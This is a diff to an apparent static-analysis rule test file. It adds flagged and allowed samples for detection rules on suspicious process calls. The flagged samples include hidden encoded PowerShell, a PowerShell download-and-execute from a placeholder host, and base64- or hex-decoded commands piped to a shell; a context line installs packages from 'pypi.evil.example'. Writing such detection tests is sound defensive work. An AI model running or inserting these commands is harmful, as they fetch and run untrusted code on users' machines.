@@ -121,3 +121,18 @@ os.system("pip3 install --extra-index-url http://pypi.evil.example/simple reques
 subprocess.run([sys.executable, "-m", "pip", "install", "requests==2.32.3"], check=True)
 # ok: AIR-PROC-011
 subprocess.run(["pip", "install", "git+https://github.com/openai/whisper.git"], check=True)
+
+# ruleid: AIR-PROC-012
+subprocess.run(["powershell", "-NoP", "-W", "Hidden", "-enc", "SQBFAFgA"])
+# ruleid: AIR-PROC-012
+os.system("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\"")
+# ok: AIR-PROC-012
+subprocess.run(["pwsh", "-File", "scripts/build.ps1"], check=True)
+
+blob = "Y3VybCB4IHwgc2g="
+# ruleid: AIR-PROC-013
+os.system(f"echo {blob} | base64 -d | sh")
+# ruleid: AIR-PROC-013
+os.system("echo 6964 | xxd -r -p | bash")
+# ok: AIR-PROC-013
+subprocess.run("base64 -d payload.b64 > decoded.bin", shell=True)
